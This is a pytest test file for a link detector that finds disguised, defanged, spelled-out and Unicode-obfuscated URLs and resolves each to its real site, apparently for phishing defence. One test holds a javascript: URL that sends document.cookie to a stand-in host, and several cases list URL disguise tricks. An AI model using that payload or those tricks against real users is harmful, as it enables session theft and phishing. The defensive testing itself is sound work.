import random
import time

import pytest

from tutela.links import find


def seen(text: str) -> list[tuple[str, str]]:
    return [(text[link.start : link.end], link.address.site) for link in find(text) if link.sure]


@pytest.mark.parametrize(
    "text",
    [
        "the end.The next one",
        "I said done.so what",
        "version 1.2.3.4, chapter 3.14, at 10.30pm",
        "write to anna.b@example.com",
        "setup.py, readme.md and node.js",
        "e.g. this, i.e. that ... wait..what",
        "you get better lol at this point lol",
        "that's awesome. Top quality",
        "ratio 3:2 and 5://",
        "javascript: the good parts",
        "see [1] and (2) and {3}",
        "",
    ],
)
def test_ordinary_writing_holds_no_link(text: str) -> None:
    assert seen(text) == []


@pytest.mark.parametrize(
    ("text", "written", "site"),
    [
        ("see https://murmura.example/t/ramen, ok", "https://murmura.example/t/ramen", "murmura.example"),
        ("(see http://a.example/x_(y))", "http://a.example/x_(y)", "a.example"),
        ("go to tinyurl.com/free-x now", "tinyurl.com/free-x", "tinyurl.com"),
        ("hxxps://murmura-login[.]com – report it", "hxxps://murmura-login[.]com", "murmura-login.com"),
        ("hxxp://a(dot)bank[dot]com/x", "hxxp://a(dot)bank[dot]com/x", "bank.com"),
        ("it is murmura[.]top or", "murmura[.]top", "murmura.top"),
        ("type murmura dot com slash login", "murmura dot com slash login", "murmura.com"),
        ("murmura . com/login", "murmura . com/login", "murmura.com"),
        ("m u r m u r a . c o m", "m u r m u r a . c o m", "murmura.com"),
        ("见murmura-help.comを見て", "murmura-help.com", "murmura-help.com"),
        ("ｍｕｒｍｕｒａ．ｃｏｍ", "ｍｕｒｍｕｒａ．ｃｏｍ", "murmura.com"),
        ("mur\u200bmura-login.com/x now", "mur\u200bmura-login.com/x", "murmura-login.com"),
        ("http://3325256727/x", "http://3325256727/x", "198.51.100.23"),
        ("http://0xc6.0x33.0144.7/", "http://0xc6.0x33.0144.7/", "198.51.100.7"),
        ("http://[2001:db8::1]/x", "http://[2001:db8::1]/x", "2001:db8::1"),
        ("203.0.113.5/login", "203.0.113.5/login", "203.0.113.5"),
        ("xn--murmur-10a.app is it", "xn--murmur-10a.app", "murmurą.app"),
        ("murmura.example@evil.xyz/login", "murmura.example@evil.xyz/login", "evil.xyz"),
        ("https:\\\\evil.top\\a", "https:\\\\evil.top", "evil.top"),
        ("Bücher.example/neu", "Bücher.example/neu", "bücher.example"),
    ],
)
def test_links_are_found_as_people_write_them(text: str, written: str, site: str) -> None:
    assert seen(text) == [(written, site)]


def test_code_in_addresses_is_found() -> None:
    script, data = find("drag javascript:location='//x.example/?c='+document.cookie or data:text/html;base64,PHM+")
    assert (script.form, data.form) == ("script", "data")
    assert script.address.site == ""


def test_deep_links_are_found() -> None:
    assert [link.form for link in find("open tg://resolve?domain=x")] == ["deep"]


def test_forms_tell_harmless_from_disguised() -> None:
    assert [find(text)[0].form for text in ("a-b[.]com", "https://a-b.com", "pay dot com", "a-b.com/x")] == [
        "defanged", "scheme", "spelled", "bare",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text",
    ["a." * 100_000, "http://" * 30_000, "@." * 100_000, "[" * 200_000, " dot a" * 30_000, "a-" * 100_000, "m " * 100_000,
     "https://a.com/" + "(" * 190_000, "\u200b" * 100_000 + "é.com", "a.com " * 30_000, "é." * 100_000, "x[.]" * 50_000],
    ids=lambda text: repr(text[:8]),
)  # fmt: skip
def test_hostile_texts_take_no_longer_than_their_length(text: str) -> None:
    begun = time.perf_counter()
    assert len(find(text)) <= 200
    assert time.perf_counter() - begun < 5


def test_offsets_always_lie_inside_and_in_order() -> None:
    rng = random.Random(7)
    pieces = [
        "https://",
        "a.com",
        "/x",
        "[.]",
        " ",
        "é",
        "見",
        "\u200b",
        "@",
        "hxxp",
        ":",
        ".",
        "mur",
        "%2F",
        "?u=",
        "(",
        ")",
        "．",
        "xn--",
        "1.2.3.4",
    ]
    for _ in range(1500):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 14)))
        last = 0
        for link in find(text):
            assert last <= link.start < link.end <= len(text)
            last = link.end
